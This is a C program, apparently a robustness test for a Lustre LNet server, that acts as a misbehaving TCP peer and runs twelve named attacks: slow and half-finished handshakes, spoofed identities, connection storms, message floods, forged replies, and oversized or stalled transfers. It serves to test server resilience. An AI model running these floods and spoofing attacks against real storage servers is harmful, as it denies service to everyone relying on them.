// SPDX-License-Identifier: GPL-2.0-only
/*
 * A node that does not behave: speaks LNet over TCP with a server, and attacks it
 * (tests/uml/t_hostile.sh).
 *   hostile ATTACK SERVER_IP OWN_IP SECONDS
 *   hostile list
 * Exit status 0: the attack went on for that long (the server may have closed connections
 * meanwhile, which is its right); 1: the server could not be reached at all.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PORT		988
#define SOCKS_MAX	100
#define PING_BITS	0x8000000000000000ULL
#define CONTROL		1
#define BULK_OUT	3

/* All little-endian, as this program's machine is. */
struct connreq { uint32_t magic, version; uint64_t nid; } __attribute__((packed));
struct hello {
	uint32_t magic, version;
	uint64_t src_nid, dst_nid;
	uint32_t src_pid, dst_pid;
	uint64_t src_inc, dst_inc;
	uint32_t ctype, nips;
} __attribute__((packed));
struct message {
	uint32_t ksock_type, csum;
	uint64_t cookie[2];
	uint64_t dest_nid, src_nid;
	uint32_t dest_pid, src_pid, type, length;
	union {
		struct { uint64_t wmd[2], bits, data; uint32_t portal, offset; } put;
		struct { uint64_t wmd[2], bits; uint32_t portal, offset, sink; } get;
		struct { uint64_t wmd[2], bits; uint32_t length; } ack;
		uint8_t bytes[40];
	};
} __attribute__((packed));

enum { ACK, PUT, GET, REPLY };

static struct in_addr server, own;
static time_t end;
static uint64_t incarnation;

static uint64_t nid_of(struct in_addr a) { return 0x20000ULL << 32 | ntohl(a.s_addr); }
static uint64_t rnd(void) { return (uint64_t)random() << 42 ^ (uint64_t)random() << 21 ^ random(); }
static bool going(void) { return time(NULL) < end; }

/* A connected socket from a privileged port, or -1. */
static int connected(void)
{
	static int port = 1023;
	struct sockaddr_in to = {
		.sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr = server,
	};
	struct sockaddr_in from = { .sin_family = AF_INET, .sin_addr = own };
	struct timeval second = { 1, 0 };
	int s, one = 1, tries;

	for (tries = 0; tries < 500; tries++) {
		s = socket(AF_INET, SOCK_STREAM, 0);
		setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
		setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &second, sizeof(second));
		setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &second, sizeof(second));
		from.sin_port = htons(port);
		if (--port < 512)
			port = 1023;
		if (!bind(s, (void *)&from, sizeof(from)) && !connect(s, (void *)&to, sizeof(to))) {
			setsockopt(s, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
			return s;
		}
		close(s);
	}
	return -1;
}

static void greeting(void *buf, uint32_t ctype, struct in_addr who)
{
	struct connreq *r = buf;
	struct hello *h = (void *)(r + 1);

	*r = (struct connreq){ 0xacce7100, 1, nid_of(server) };
	*h = (struct hello){
		0x45726963, 3, nid_of(who), nid_of(server), 12345, 0, incarnation, 0, ctype, 0,
	};
}

#define GREETING	(sizeof(struct connreq) + sizeof(struct hello))

/* A connection of a type, or -1. */
static int joined(uint32_t ctype)
{
	char buf[GREETING];
	struct hello h;
	int s, tries;

	for (tries = 0; tries < 5; tries++) {
		s = connected();
		if (s < 0)
			return -1;
		greeting(buf, ctype, own);
		if (write(s, buf, GREETING) == GREETING &&
		    recv(s, &h, sizeof(h), MSG_WAITALL) == sizeof(h) && (int)h.ctype > 0)
			return s;
		close(s);
		sleep(1);
	}
	return -1;
}

static struct message message(uint32_t type, uint32_t length)
{
	struct message m = {
		.ksock_type = 0xc1, .dest_nid = nid_of(server), .src_nid = nid_of(own),
		.dest_pid = 12345, .src_pid = 12345, .type = type, .length = length,
	};

	if (type == PUT)
		memset(m.put.wmd, 0xff, sizeof(m.put.wmd));
	return m;
}

static bool out(int s, const void *buf, size_t len) { return write(s, buf, len) == (ssize_t)len; }

/* ---- connection requests ---- */

static int many(int *s, int n, size_t len)
{
	char buf[GREETING];
	int i, live = 0;

	greeting(buf, CONTROL, own);
	for (i = 0; i < n; i++) {
		s[i] = connected();
		if (s[i] >= 0 && out(s[i], buf, len))
			live++;
	}
	return live;
}

static int half_hello(void)
{
	int s[SOCKS_MAX], i, live = 0;

	while (going()) {
		live += many(s, SOCKS_MAX, sizeof(struct connreq) + 20);
		sleep(2);
		for (i = 0; i < SOCKS_MAX; i++)
			close(s[i]);
	}
	return live;
}

static int slow_byte(void)
{
	int s[SOCKS_MAX], i, live;
	char buf[GREETING];
	size_t at = 1;

	greeting(buf, CONTROL, own);
	live = many(s, SOCKS_MAX, 1);
	while (going()) {
		for (i = 0; i < SOCKS_MAX; i++)
			if (s[i] >= 0 && !out(s[i], buf + at, 1)) {
				close(s[i]);
				s[i] = -1;
			}
		at = at % (GREETING - 2) + 1;
		usleep(500000);
	}
	return live;
}

static int spoofed_hello(void)
{
	struct in_addr other = { server.s_addr };
	char buf[GREETING];
	int s, live = 0;

	while (going()) {
		s = connected();
		greeting(buf, CONTROL, other);
		live += s >= 0 && out(s, buf, GREETING);
		usleep(20000);
		close(s);
		other.s_addr = live & 1 ? htonl(0x0a010000 + random() % 0xffff) : server.s_addr;
	}
	return live;
}

static int restarts(void)
{
	int live = 0, s;

	while (going()) {
		incarnation++;
		s = joined(CONTROL);
		live += s >= 0;
		close(s);
	}
	return live;
}

/* ---- messages ---- */

/* Sends make()'s messages without reading what comes back; joins again when it is cut off. */
static int flood(struct message (*make)(void), size_t payload)
{
	static char zeros[65536];
	int s = -1, live = 0;

	while (going()) {
		struct message m = make();

		if (s < 0) {
			s = joined(BULK_OUT);
			if (s < 0)
				continue;
			live++;
		}
		if (!out(s, &m, sizeof(m)) || (payload && !out(s, zeros, payload))) {
			close(s);
			s = -1;
		}
	}
	return live;
}

static struct message make_ping(void)
{
	struct message m = message(GET, 0);

	m.get.bits = PING_BITS;
	m.get.sink = 3000;
	return m;
}

static struct message make_answer(void)
{
	struct message m = message(random() & 1 ? ACK : REPLY, 0);

	m.ack.wmd[0] = rnd();
	m.ack.wmd[1] = rnd();
	return m;
}

static struct message make_foreign(void)
{
	struct message m = message(PUT, 0);

	m.src_nid = 0x20000ULL << 32 | random();
	m.put.portal = 26;
	return m;
}

static struct message make_garbage(void)
{
	static const uint32_t portals[] = { 26, 12, 28, 6, 17, 23, 30, 24, 0, 63 };
	struct message m = message(PUT, 4096);

	m.put.portal = portals[random() % 10];
	m.put.bits = m.put.portal ? rnd() : PING_BITS;
	m.cookie[0] = random() % 2 ? rnd() | 4 : 0;
	return m;
}

static struct message make_huge(void)
{
	struct message m = message(random() % 4, random() % 2 ? 0xffffffff : 0x100001);

	m.put.portal = random();
	return m;
}

static int ping_flood(void) { return flood(make_ping, 0); }
static int forged_answers(void) { return flood(make_answer, 0); }
static int foreign_source(void) { return flood(make_foreign, 0); }
static int garbage(void) { return flood(make_garbage, 4096); }
static int huge(void) { return flood(make_huge, 0); }

/* PUTs whose payload does not come, or comes byte by byte. */
static int stalled(bool trickle)
{
	int s[SOCKS_MAX], i, live = 0;
	struct message m = message(PUT, 1 << 20);

	for (i = 0; i < SOCKS_MAX; i++) {
		s[i] = joined(i % 3 + 1);
		if (s[i] < 0)
			continue;
		live++;
		m.put.portal = i & 1 ? 26 : 28;
		out(s[i], &m, sizeof(m));
		out(s[i], &m, sizeof(m));
		if (!going())
			break;
	}
	while (going()) {
		usleep(300000);
		for (i = 0; trickle && i < SOCKS_MAX; i++)
			if (s[i] >= 0)
				out(s[i], "", 1);
	}
	return live;
}

static int stalled_put(void) { return stalled(false); }
static int trickled_put(void) { return stalled(true); }

/* Says that 200 more NIDs are its own, other ones each time. */
static int claimed_nids(void)
{
	struct {
		struct message m;
		uint32_t head[4];
		struct { uint64_t nid; uint32_t status, size; } ni[200];
	} __attribute__((packed)) p;
	uint32_t seq = 1;
	int s = -1, i, live = 0;

	while (going()) {
		if (s < 0)
			s = joined(CONTROL);
		p.m = message(PUT, sizeof(p) - sizeof(p.m));
		p.m.put.bits = PING_BITS;
		p.head[0] = 0x70696e67; p.head[1] = 0x1e; p.head[2] = 12345; p.head[3] = 200;
		for (i = 0; i < 200; i++) {
			p.ni[i].nid = i == 0 ? 9ULL << 48 : i == 1 ? nid_of(own) :
				i == 2 ? nid_of(server) : 0x20000ULL << 32 | random();
			p.ni[i].status = i ? 0x15aac0de : seq++;
			p.ni[i].size = 0;
		}
		if (s >= 0 && out(s, &p, sizeof(p))) {
			live++;
		} else {
			close(s);
			s = -1;
		}
		usleep(10000);
	}
	return live;
}

static const struct attack { const char *name; int (*run)(void); } attacks[] = {
	{ "half-hello", half_hello }, { "slow-byte", slow_byte },
	{ "spoofed-hello", spoofed_hello }, { "restarts", restarts },
	{ "ping-flood", ping_flood }, { "forged-answers", forged_answers },
	{ "foreign-source", foreign_source }, { "garbage", garbage }, { "huge", huge },
	{ "stalled-put", stalled_put }, { "trickled-put", trickled_put },
	{ "claimed-nids", claimed_nids },
};

#define NR_ATTACKS	(sizeof(attacks) / sizeof(attacks[0]))

int main(int argc, char **argv)
{
	size_t i;
	int live;

	for (i = 0; argc == 2 && !strcmp(argv[1], "list") && i < NR_ATTACKS; i++)
		puts(attacks[i].name);
	if (argc == 2)
		return 0;
	if (argc != 5 || !inet_aton(argv[2], &server) || !inet_aton(argv[3], &own))
		return 2;
	signal(SIGPIPE, SIG_IGN);
	srandom(getpid());
	incarnation = (uint64_t)time(NULL) << 20;
	end = time(NULL) + atoi(argv[4]);
	for (i = 0; i < NR_ATTACKS; i++) {
		if (strcmp(argv[1], attacks[i].name))
			continue;
		live = attacks[i].run();
		printf("%s: %d\n", argv[1], live);
		return live ? 0 : 1;
	}
	return 2;
}
